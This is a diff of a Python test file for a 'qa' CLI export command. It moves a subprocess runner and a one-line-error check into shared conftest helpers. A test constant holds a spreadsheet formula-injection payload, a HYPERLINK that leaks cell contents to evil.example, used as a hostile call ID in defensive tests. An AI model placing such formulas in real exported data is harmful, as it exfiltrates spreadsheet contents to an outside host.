@@ -5,7 +5,6 @@ from __future__ import annotations
 import csv
 import dataclasses
 import subprocess
-import sys
 
 import duckdb
 import pytest
@@ -13,6 +12,8 @@ import pytest
 from qa.store import CallInfo, Store
 from scoring import RubricScorer
 from tests.builders import transcript
+from tests.conftest import one_line_error
+from tests.conftest import qa as run_qa
 from tests.test_scoring_engine import GOOD_CALL
 
 HOSTILE_ID = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
@@ -23,16 +24,7 @@ HOSTILE_QUOTE = "\t=1+1"
 
 
 def qa(*args: str, cwd) -> subprocess.CompletedProcess:
-    return subprocess.run([sys.executable, "-m", "qa.cli", *args], cwd=cwd, capture_output=True, text=True,
-                          timeout=180)
-
-
-def _one_line_error(run: subprocess.CompletedProcess) -> str:
-    assert run.returncode == 2, run.stdout + run.stderr
-    assert "Traceback" not in run.stderr
-    lines = [ln for ln in run.stderr.splitlines() if ln.strip()]
-    assert len(lines) == 1, run.stderr
-    return lines[0]
+    return run_qa(*args, cwd=cwd, timeout=180)
 
 
 @pytest.fixture
@@ -97,9 +89,9 @@ def test_parquet_and_json_keep_the_exact_values(tmp_path, hostile_db, fmt, reade
 def test_table_export_to_a_file_is_one_line(tmp_path, hostile_db):
     db, _ = hostile_db
     (tmp_path / "bi").write_text("not a folder")
-    line = _one_line_error(qa("export", "--db", str(db), "--out", "bi", cwd=tmp_path))
+    line = one_line_error(qa("export", "--db", str(db), "--out", "bi", cwd=tmp_path))
     assert "bi" in line and "not a folder" in line
-    line = _one_line_error(qa("export", "--db", str(db), "--out", "bi/sub", cwd=tmp_path))
+    line = one_line_error(qa("export", "--db", str(db), "--out", "bi/sub", cwd=tmp_path))
     assert "bi/sub" in line and "cannot create the folder" in line
     assert (tmp_path / "bi").read_text() == "not a folder"
 
@@ -107,8 +99,8 @@ def test_table_export_to_a_file_is_one_line(tmp_path, hostile_db):
 def test_one_call_export_to_a_folder_or_below_a_file_is_one_line(tmp_path, hostile_db):
     db, _ = hostile_db
     (tmp_path / "calls").mkdir()
-    line = _one_line_error(qa("export", HOSTILE_ID, "--db", str(db), "--out", "calls", cwd=tmp_path))
+    line = one_line_error(qa("export", HOSTILE_ID, "--db", str(db), "--out", "calls", cwd=tmp_path))
     assert "calls" in line and "is a folder" in line
     (tmp_path / "afile").write_text("x")
-    line = _one_line_error(qa("export", HOSTILE_ID, "--db", str(db), "--out", "afile/call.json", cwd=tmp_path))
+    line = one_line_error(qa("export", HOSTILE_ID, "--db", str(db), "--out", "afile/call.json", cwd=tmp_path))
     assert "afile/call.json" in line and "cannot write" in line
